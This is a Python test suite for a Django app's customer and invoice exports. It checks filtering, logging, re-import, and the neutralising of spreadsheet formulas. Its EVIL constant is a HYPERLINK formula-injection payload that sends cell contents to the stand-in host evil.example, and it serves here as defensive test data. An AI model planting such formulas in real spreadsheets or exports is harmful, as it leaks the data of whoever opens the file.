"""Exports of the filtered customer and invoice lists: safe to open in Excel, and re-importable."""

from __future__ import annotations

from decimal import Decimal

import pytest
from django.urls import reverse

from customers.models import EmailStatus
from customers.stats import customers_refresh_stats
from invoices.batches import import_batch_confirm, import_batch_create
from invoices.models import InvoiceStatus
from organizations.models import ActivityLog
from tests.factories import ContactFactory, CustomerFactory, InvoiceFactory
from tests.spreadsheets import XLSX_TYPE, read_csv_export, read_xlsx, streamed

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def evil(world):
    customer = CustomerFactory(organization=world.org_a, external_ref="E-1", name=EVIL, city="Gent")
    ContactFactory(customer=customer, email="not-an-address", email_status=EmailStatus.INVALID, phone="+32 9 000 00 00")
    InvoiceFactory(customer=customer, number="E-2026-1", amount=Decimal("1234.50"))
    customers_refresh_stats(customer_ids=[customer.pk])
    return customer


def _export(client, world, kind, **params):
    response = client.get(reverse(f"imports:{kind}-export", args=[world.org_a.slug]), params)
    assert response.status_code == 200
    return response, streamed(response)


def test_customer_csv_export_respects_the_filter_and_neutralises_formulas(world, owner_a_client, evil):
    response, content = _export(owner_a_client, world, "customers", valid_email="false", format="csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8" and response.streaming
    assert "attachment" in response["Content-Disposition"]
    header, *rows = read_csv_export(content)
    assert header[-1] == "open_balance" and header[:2] == ["external_ref", "name"]
    assert [row[0] for row in rows] == ["E-1"]  # A's C-1 has a valid address; B's customers never appear
    assert rows[0][1] == "'" + EVIL and rows[0][3:5] == ["not-an-address", "'+32 9 000 00 00"]
    assert rows[0][-1] == "1234,50"  # a number with a decimal comma, not text


def test_customer_xlsx_export_respects_the_search_and_keeps_numbers(world, owner_a_client, evil):
    response, content = _export(owner_a_client, world, "customers", search="HYPERLINK", format="xlsx")

    assert response["Content-Type"] == XLSX_TYPE
    header, *rows = read_xlsx(content)
    assert len(rows) == 1 and rows[0][1] == "'" + EVIL
    assert rows[0][-1] == 1234.5


def test_invoice_export_filters_on_status_and_search(world, owner_a_client, evil):
    InvoiceFactory(customer=world.a.customer, number="P-1", open_amount=0, status=InvoiceStatus.PAID)
    _response, content = _export(owner_a_client, world, "invoices", status="open", format="csv")
    assert sorted(row[0] for row in read_csv_export(content)[1:]) == ["2026-001", "E-2026-1"]
    _response, content = _export(owner_a_client, world, "invoices", q="HYPERLINK", format="xlsx")
    header, *rows = read_xlsx(content)
    assert header == [
        "number",
        "customer_ref",
        "issue_date",
        "due_date",
        "amount",
        "open_amount",
        "currency",
        "payment_reference",
        "status",
    ]
    assert [row[0] for row in rows] == ["E-2026-1"] and rows[0][4] == 1234.5 and rows[0][-1] == "open"


def test_an_export_is_logged_with_its_row_count(world, owner_a_client, evil):
    _export(owner_a_client, world, "customers", format="xlsx")
    entry = ActivityLog.objects.get(organization=world.org_a, code="export.downloaded")
    assert entry.data == {"kind": "customers", "format": "xlsx", "rows": 2}
    assert entry.subject == world.org_a and entry.actor_user == world.owner_a.user


def test_an_unknown_format_is_refused(world, owner_a_client):
    response = owner_a_client.get(reverse("imports:customers-export", args=[world.org_a.slug]), {"format": "pdf"})
    assert response.status_code == 400


@pytest.mark.parametrize(("kind", "export_format"), [("customers", "csv"), ("invoices", "xlsx"),
                                                      ("customers", "xlsx"), ("invoices", "csv")])  # fmt: skip
def test_an_export_reimports_without_changing_anything(world, owner_a_client, evil, kind, export_format):
    world.a.customer.account_manager = world.manager_a
    world.a.customer.save()
    _response, content = _export(owner_a_client, world, kind, format=export_format)
    changes_before = ActivityLog.objects.filter(
        code__in=["customer.updated", "invoice.updated", "contact.updated"]
    ).count()

    batch = import_batch_create(
        organization=world.org_a, kind=kind, content=content, filename=f"export.{export_format}"
    )
    outcome = import_batch_confirm(batch=batch, skip_invalid=False, actor=world.owner_a.user)

    assert outcome.imported, outcome.plan.errors
    assert (outcome.plan.new, outcome.plan.updated, outcome.plan.unchanged) == (0, 0, 2)
    changes_after = ActivityLog.objects.filter(
        code__in=["customer.updated", "invoice.updated", "contact.updated"]
    ).count()
    assert changes_after == changes_before
    evil.refresh_from_db()
    assert evil.name == EVIL and evil.contacts.get().phone == "+32 9 000 00 00"
